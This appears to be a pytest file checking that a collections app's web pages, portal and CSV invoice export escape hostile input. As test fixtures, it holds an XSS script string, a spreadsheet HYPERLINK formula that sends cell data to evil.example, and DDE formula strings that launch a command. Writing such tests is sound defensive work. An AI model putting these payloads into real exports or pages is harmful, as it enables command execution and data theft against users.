"""The team's pages and the customer portal print hostile values as text: a customer,
invoice, note, user or one-time message carrying markup cannot inject it."""

import csv
import io
from datetime import timedelta
from decimal import Decimal
from urllib.parse import quote

import pytest

from recoup.auth import service as auth
from recoup.auth.models import Role
from recoup.cases import notes
from recoup.db import transaction
from recoup.ledger import service as ledger
from recoup.web.templating import FLASH_COOKIE
from tests.documents.hostile import HOSTILE, SHORT_HOSTILE, assert_no_payload
from tests.portal.links import issue
from tests.web.support import AS_OF, World, log_in, make_client


@pytest.fixture(scope="module")
def hostile_customer(world: World) -> int:
    """A customer of ``alpha`` whose every text field is hostile."""
    with transaction(world.engine, actor="test") as session:
        customer = ledger.create_customer(
            session, org_id=world.a.id, external_id="H1", name=HOSTILE, currency="EUR"
        )
        ledger.create_invoice(
            session,
            org_id=world.a.id,
            customer_id=customer.id,
            number="H" + SHORT_HOSTILE,
            issue_date=AS_OF - timedelta(days=60),
            due_date=AS_OF - timedelta(days=30),
            total=Decimal("99.00"),
            po_number=SHORT_HOSTILE,
        )
        notes.add_note(session, org_id=world.a.id, customer_id=customer.id, text=HOSTILE)
        auth.create_user(
            session,
            org_id=world.a.id,
            email="hostile@alpha.example",
            password="a long enough password",
            role=Role.VIEWER,
            name=HOSTILE,
        )
        world.a.customers["H1"] = customer.id
        return customer.id


def test_team_pages_escape_hostile_values(world: World, hostile_customer: int) -> None:
    client = make_client(world)
    log_in(client, "admin@alpha.example")

    for path in (
        "/",
        "/worklist",
        "/invoices?status=all",
        "/invoices?q=H",
        f"/customers/{hostile_customer}",
        "/users",
        "/outbox",
    ):
        page = client.get(path)
        assert page.status_code == 200, path
        assert_no_payload(page.text, where=path)
    customer_page = client.get(f"/customers/{hostile_customer}").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in customer_page


def test_a_hostile_flash_message_is_text(world: World) -> None:
    client = make_client(world)
    log_in(client, "admin@alpha.example")
    client.cookies.set(FLASH_COOKIE, quote(HOSTILE))

    assert_no_payload(client.get("/").text, where="flash")


def test_the_portal_escapes_hostile_values(world: World, hostile_customer: int) -> None:
    token = issue(world, customer="H1")

    page = make_client(world).get(f"/p/{token}")

    assert page.status_code == 200
    assert_no_payload(page.text, where="portal")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text


def test_the_invoice_download_neutralises_formulas(world: World) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    with transaction(world.engine, actor="test") as session:
        customer = ledger.create_customer(
            session, org_id=world.a.id, external_id="F1", name=formula, currency="EUR"
        )
        ledger.create_invoice(
            session,
            org_id=world.a.id,
            customer_id=customer.id,
            number="@SUM(1+1)*cmd|' /C calc'!A0",
            issue_date=AS_OF - timedelta(days=10),
            due_date=AS_OF + timedelta(days=20),
            total=Decimal("10.00"),
            po_number="+cmd|' /C calc'!A0",
        )
    client = make_client(world)
    log_in(client, "admin@alpha.example")

    rows = list(csv.DictReader(io.StringIO(client.get("/invoices.csv?q=F1").text)))

    assert [(r["customer"], r["number"], r["po_number"], r["open"]) for r in rows] == [
        ("'" + formula, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "10.00")
    ]
